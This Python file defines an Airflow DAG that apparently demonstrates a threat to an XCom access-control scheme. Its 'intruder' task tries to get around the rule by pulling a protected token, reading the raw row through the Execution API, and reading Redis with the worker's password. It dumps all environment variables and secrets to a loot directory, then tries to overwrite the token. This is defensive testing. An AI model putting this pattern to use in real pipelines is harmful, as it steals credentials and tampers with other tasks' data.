"""One token, one consumer, and one task that does not play by the rules.

`intruder` is a consumer of nothing. It has what every task has: the worker's settings with the Redis password, and
access to the Execution API with its own token. It writes everything it gets into the directory DEMO_LOOT. There
`make demo` looks at it from outside.
"""

import hashlib
import json
import os
import secrets
from pathlib import Path

from airflow.sdk import DAG, task

with DAG("hostile_task", schedule=None, params={"xcom_acl": {"extract": {"token": ["load"]}}}, doc_md=__doc__):

    @task
    def extract(ti):
        token = secrets.token_hex(16)
        print("pushed a token with SHA-256", hashlib.sha256(token.encode()).hexdigest())
        ti.xcom_push("token", token)

    @task
    def load(ti):
        token = ti.xcom_pull(task_ids="extract", key="token")
        print("pulled a token with SHA-256", hashlib.sha256(token.encode()).hexdigest())

    @task
    def intruder(ti):
        from airflow.sdk.execution_time import task_runner
        from airflow.sdk.execution_time.comms import GetXCom, SetXCom
        from redis import Redis

        loot = Path(os.environ["DEMO_LOOT"])
        address = {"dag_id": ti.dag_id, "run_id": ti.run_id, "task_id": "extract", "key": "token", "map_index": -1}

        try:
            token = ti.xcom_pull(task_ids="extract", key="token")
            print("1. THE PULL GAVE a token with SHA-256", hashlib.sha256(token.encode()).hexdigest())
        except PermissionError as refusal:
            print("1. pull refused:", refusal)

        # Around the backend: the row, by way of the Execution API and with this task's own token ...
        row = task_runner.SUPERVISOR_COMMS.send(GetXCom(**address)).value
        (loot / "row.json").write_text(json.dumps(row))
        # ... and all that Redis holds, with the worker's own password.
        with Redis.from_url(os.environ["AIRFLOW__EXCLUSIVE_REDIS_XCOM__REDIS_URL"]) as worker:
            name = os.environ["DEMO_HASH"].format(run_id=ti.run_id.replace(":", "%3A").replace("+", "%2B"))
            acl, value = worker.hmget(name, "acl", "-1")
        (loot / "value").write_bytes(value)
        (loot / "settings").write_text("\n".join(f"{name}={text}" for name, text in os.environ.items()))
        print(
            f"2. got hold of the row ({len(json.dumps(row))} bytes), the rule ({len(acl)}) and the value ({len(value)})"
        )

        try:
            task_runner.SUPERVISOR_COMMS.send(SetXCom(**address, value="planted"))
            print("3. OVERWROTE the token")
        except Exception as refusal:  # its type differs between Airflow's versions
            print("3. overwrite refused:", refusal)

    @task(trigger_rule="all_done")
    def finish():
        """Ends the run when all have tried."""

    extract() >> [load(), intruder()] >> finish()
